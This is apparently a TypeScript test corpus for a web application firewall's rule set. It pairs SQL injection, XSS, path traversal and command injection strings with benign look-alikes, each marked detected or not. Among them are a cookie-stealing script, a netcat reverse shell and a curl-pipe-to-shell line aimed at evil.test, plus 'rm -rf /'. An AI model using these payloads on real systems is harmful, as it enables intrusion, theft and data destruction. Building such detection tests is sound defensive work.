// Attack strings and benign look-alikes for waf-lite's rule set (rules.json). Each entry says what
// the rule set does with it; the test checks every verdict and the totals the README prints.
// `detected: false` on an attack is a known miss; `detected: true` on a benign text is a known
// false positive. Both are kept visible rather than tuned away.

export interface CorpusEntry {
  kind: "sqli" | "xss" | "traversal" | "cmdi" | "benign";
  text: string;
  detected: boolean;
}

export const CORPUS: CorpusEntry[] = [
  { kind: "sqli", text: "' OR '1'='1", detected: true },
  { kind: "sqli", text: "' or 1=1--", detected: true },
  { kind: "sqli", text: "admin'--", detected: true },
  { kind: "sqli", text: "' OR ''='", detected: true },
  { kind: "sqli", text: "1 UNION SELECT username, password FROM users", detected: true },
  { kind: "sqli", text: "1' UNION ALL SELECT NULL,NULL--", detected: true },
  { kind: "sqli", text: "1 union/**/select 1,2,3", detected: true },
  { kind: "sqli", text: "1; DROP TABLE users", detected: true },
  { kind: "sqli", text: "1' AND SLEEP(5)--", detected: true },
  { kind: "sqli", text: "1' WAITFOR DELAY '0:0:5'--", detected: true },
  { kind: "sqli", text: "'; EXEC xp_cmdshell('dir')--", detected: true },
  { kind: "sqli", text: "1 AND 1=CONVERT(int,(SELECT @@version))", detected: true },
  { kind: "sqli", text: "1 OR 1=1", detected: false },
  { kind: "xss", text: "<script>alert(1)</script>", detected: true },
  { kind: "xss", text: "<SCRIPT SRC=//evil.test/x.js></SCRIPT>", detected: true },
  { kind: "xss", text: "<img src=x onerror=alert(1)>", detected: true },
  { kind: "xss", text: "<svg/onload=alert(1)>", detected: true },
  { kind: "xss", text: "<body onload=alert(1)>", detected: true },
  { kind: "xss", text: "\"><script>fetch('//evil.test?c='+document.cookie)</script>", detected: true },
  { kind: "xss", text: "javascript:alert(document.cookie)", detected: true },
  { kind: "xss", text: "<a href=\"jAvAsCrIpT:alert(1)\">x</a>", detected: true },
  { kind: "xss", text: "<iframe src=\"https://evil.test\"></iframe>", detected: true },
  { kind: "xss", text: "<div style=\"background:url(javascript:alert(1))\">", detected: true },
  { kind: "traversal", text: "../../../../etc/passwd", detected: true },
  { kind: "traversal", text: "..\\..\\..\\windows\\win.ini", detected: true },
  { kind: "traversal", text: "/var/www/../../etc/shadow", detected: true },
  { kind: "traversal", text: "....//....//etc/passwd", detected: true },
  { kind: "traversal", text: "%2e%2e%2f%2e%2e%2fconfig.php", detected: true },
  { kind: "traversal", text: "file:///etc/hosts", detected: true },
  { kind: "cmdi", text: "; cat /etc/passwd", detected: true },
  { kind: "cmdi", text: "| nc evil.test 4444 -e /bin/sh", detected: true },
  { kind: "cmdi", text: "$(whoami)", detected: true },
  { kind: "cmdi", text: "`id`", detected: true },
  { kind: "cmdi", text: "&& curl http://evil.test/x.sh | sh", detected: true },
  { kind: "cmdi", text: "; rm -rf /", detected: true },
  { kind: "cmdi", text: "|| ping -c 10 127.0.0.1", detected: false },
  { kind: "benign", text: "O'Brien", detected: false },
  { kind: "benign", text: "select a plan", detected: false },
  { kind: "benign", text: "Please select a plan from the list below", detected: false },
  { kind: "benign", text: "The union will select a new leader", detected: false },
  { kind: "benign", text: "<b>bold</b> and <i>italic</i> are fine", detected: false },
  { kind: "benign", text: "rock 'n' roll or jazz", detected: false },
  { kind: "benign", text: "He said \"#1 fan\" -- twice", detected: true },
  { kind: "benign", text: "Tom & Jerry", detected: false },
  { kind: "benign", text: "Ben & Jerry's; cat lovers welcome", detected: false },
  { kind: "benign", text: "I love javascript: it's fun", detected: false },
  { kind: "benign", text: "Use `npm install` to set it up", detected: false },
  { kind: "benign", text: "price: $(10 + 5)", detected: false },
  { kind: "benign", text: "1 + 1 = 2, and 5 OR MORE items", detected: false },
  { kind: "benign", text: "Pick from the drop-down menu; update your profile", detected: false },
  { kind: "benign", text: "Set an alert (daily) for the onload time", detected: false },
  { kind: "benign", text: "I'm 5' 11\" tall and it's great", detected: false },
  { kind: "benign", text: "see https://example.com/docs/../faq", detected: true },
  { kind: "benign", text: "Mail a.b@example.com; ask for Sam's \"order #12\"", detected: false },
  { kind: "benign", text: "Wait... what? And/or maybe.", detected: false },
];
